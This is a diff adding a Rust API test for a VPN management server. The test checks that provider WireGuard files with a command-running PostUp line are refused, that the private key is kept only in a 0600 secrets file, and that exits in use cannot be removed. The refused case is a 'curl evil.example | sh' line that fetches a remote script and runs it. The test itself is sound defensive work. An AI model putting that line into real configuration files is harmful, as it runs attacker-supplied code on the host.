@@ -1267,3 +1267,72 @@ async fn files_stay_in_the_users_own_folder() {
     let refused = api.call(&bob, Method::GET, "/api/files", None).await;
     assert_eq!(refused.status, StatusCode::FORBIDDEN, "{}", refused.body);
 }
+
+/// A provider's wg-quick file, as `POST /api/exits` takes it.
+const PROVIDER_FILE: &str = "[Interface]
+PrivateKey = YNqHwpcAmVj0lVzPATSQwP2yI7TsGO1vYjNeqVd7eFw=
+Address = 10.64.12.34/32
+DNS = 10.64.0.1
+
+[Peer]
+PublicKey = cHJvdmlkZXJwdWJsaWNrZXlwcm92aWRlcnB1YmxpY2s=
+AllowedIPs = 0.0.0.0/0
+Endpoint = 192.0.2.10:51820
+";
+
+#[tokio::test]
+async fn exits_are_added_used_and_removed_with_their_keys_kept_apart() {
+    let api = Api::new();
+    api.setup().await;
+    let admin = api.login("admin", ADMIN_PASSWORD).await;
+
+    // A file that would run a command is refused at its line, and nothing changes.
+    let evil = PROVIDER_FILE.replace("DNS = 10.64.0.1", "DNS = 10.64.0.1\nPostUp = curl evil.example | sh");
+    let reply = api.call(&admin, Method::POST, "/api/exits", Some(json!({"name": "vpn", "wireguard": evil}))).await;
+    assert_eq!(reply.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", reply.body);
+    let details = reply.body["error"]["details"].to_string();
+    assert!(details.contains("line 5: PostUp runs a command"), "{details}");
+    assert_eq!(api.app.state.generations().unwrap().len(), 1, "nothing was built");
+    let reply =
+        api.call(&admin, Method::POST, "/api/exits", Some(json!({"name": "My VPN", "wireguard": PROVIDER_FILE}))).await;
+    assert_eq!(reply.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", reply.body);
+    assert!(!api.app.state.secrets().dir().join("exits").exists(), "no key kept for a refused exit");
+
+    let reply =
+        api.call(&admin, Method::POST, "/api/exits", Some(json!({"name": "vpn", "wireguard": PROVIDER_FILE}))).await;
+    assert_eq!(reply.status, StatusCode::CREATED, "{}", reply.body);
+    let listed = api.call(&admin, Method::GET, "/api/exits", None).await;
+    assert_eq!(listed.body[0]["name"], "vpn", "{}", listed.body);
+    assert_eq!(listed.body[0]["endpoint"], "192.0.2.10:51820");
+    // The private key is in secrets/ (0600) and nowhere in the config or the store.
+    let key = api.app.state.secrets().dir().join("exits/vpn/private.key");
+    use std::os::unix::fs::PermissionsExt;
+    assert_eq!(std::fs::metadata(&key).unwrap().permissions().mode() & 0o777, 0o600);
+    let config = api.call(&admin, Method::GET, "/api/config", None).await.body.to_string();
+    assert!(!config.contains("YNqHwpcAmVj0lVzPATSQwP2yI7TsGO1vYjNeqVd7eFw"), "the private key is in the config");
+    let store = std::process::Command::new("grep")
+        .args(["-r", "YNqHwpcAmVj0lVzPATSQwP2yI7TsGO1vYjNeqVd7eFw"])
+        .arg(api.app.state.root().join("store"))
+        .output()
+        .unwrap();
+    assert!(store.stdout.is_empty(), "the private key is in the store");
+
+    // A device sent through it: only with full routing.
+    let reply = api.call(&admin, Method::POST, "/api/peers", Some(json!({"name": "laptop", "exit": "vpn"}))).await;
+    assert_eq!(reply.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", reply.body);
+    let reply = api
+        .call(&admin, Method::POST, "/api/peers", Some(json!({"name": "laptop", "routing": "full", "exit": "vpn"})))
+        .await;
+    assert_eq!(reply.status, StatusCode::CREATED, "{}", reply.body);
+
+    // In use: not removed; once the device leaves it, removed with its keys.
+    let reply = api.call(&admin, Method::DELETE, "/api/exits/vpn", None).await;
+    assert_eq!(reply.status, StatusCode::CONFLICT, "{}", reply.body);
+    assert!(reply.body["error"]["message"].as_str().unwrap().contains("device laptop"), "{}", reply.body);
+    let reply = api.call(&admin, Method::PATCH, "/api/peers/laptop", Some(json!({"exit": null}))).await;
+    assert_eq!(reply.status, StatusCode::OK, "{}", reply.body);
+    let reply = api.call(&admin, Method::DELETE, "/api/exits/vpn", None).await;
+    assert_eq!(reply.status, StatusCode::OK, "{}", reply.body);
+    assert!(!key.exists(), "the exit's keys outlive it");
+    assert_eq!(api.call(&admin, Method::DELETE, "/api/exits/vpn", None).await.status, StatusCode::NOT_FOUND);
+}
